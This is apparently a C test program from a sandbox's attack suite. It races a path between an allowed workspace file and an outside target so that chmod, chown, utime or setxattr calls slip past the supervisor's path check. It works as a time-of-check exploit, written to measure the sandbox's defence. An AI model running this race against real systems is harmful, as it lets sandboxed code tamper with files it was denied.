/* atk-meta-race chmod|chown|utime|setxattr TRIES ALLOWED TARGET - the
 * time-of-check race on the path of a metadata call.
 *
 * Landlock has no right for chmod, chown, utimes or xattrs, so the
 * supervisor alone judges them.  A second thread keeps rewriting the path
 * between ALLOWED (a workspace file) and TARGET (outside the allowed
 * paths, same length) while the main thread changes the metadata of
 * whatever the path names.  run.sh judges by TARGET's metadata.
 */
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <fcntl.h>
#include <unistd.h>

#include "atk.h"

struct race {
	char path[256];
	char allowed[256];
	char target[256];
	atomic_int stop;
	atomic_int started;
};

static void *flipper(void *arg)
{
	struct race *r = arg;
	unsigned seed = (unsigned)getpid();
	atomic_store(&r->started, 1);
	while (!atomic_load_explicit(&r->stop, memory_order_relaxed)) {
		memcpy(r->path, r->target, sizeof r->path);
		for (unsigned i = rand_r(&seed) % 32; i > 0; i--)
			syscall(SYS_getppid);
		memcpy(r->path, r->allowed, sizeof r->path);
		for (unsigned i = rand_r(&seed) % 32; i > 0; i--)
			syscall(SYS_getppid);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 5)
		atk_die("usage: atk-meta-race chmod|chown|utime|setxattr TRIES ALLOWED TARGET");
	const char *mode = argv[1];
	long tries = strtol(argv[2], NULL, 10);
	static struct race r;
	snprintf(r.allowed, sizeof r.allowed, "%s", argv[3]);
	snprintf(r.target, sizeof r.target, "%s", argv[4]);
	memcpy(r.path, r.allowed, sizeof r.path);
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, &r) != 0)
		atk_die("pthread_create failed");
	while (!atomic_load(&r.started))
		sched_yield();
	long ok = 0, refused = 0;
	struct timespec ts[2] = { { 1000000000, 0 }, { 1000000000, 0 } };
	for (long i = 0; i < tries; i++) {
		int rc;
		if (!strcmp(mode, "chmod"))
			rc = chmod(r.path, 0777);
		else if (!strcmp(mode, "chown"))
			rc = chown(r.path, 65534, 65534);
		else if (!strcmp(mode, "utime"))
			rc = utimensat(AT_FDCWD, r.path, ts, 0);
		else if (!strcmp(mode, "setxattr"))
			rc = setxattr(r.path, "user.cg", "pwned", 5, 0);
		else
			atk_die("unknown mode %s", mode);
		if (rc == 0)
			ok++;
		else
			refused++;
	}
	atomic_store(&r.stop, 1);
	pthread_join(t, NULL);
	printf("tries=%ld ok=%ld refused=%ld\n", tries, ok, refused);
	return 0;
}
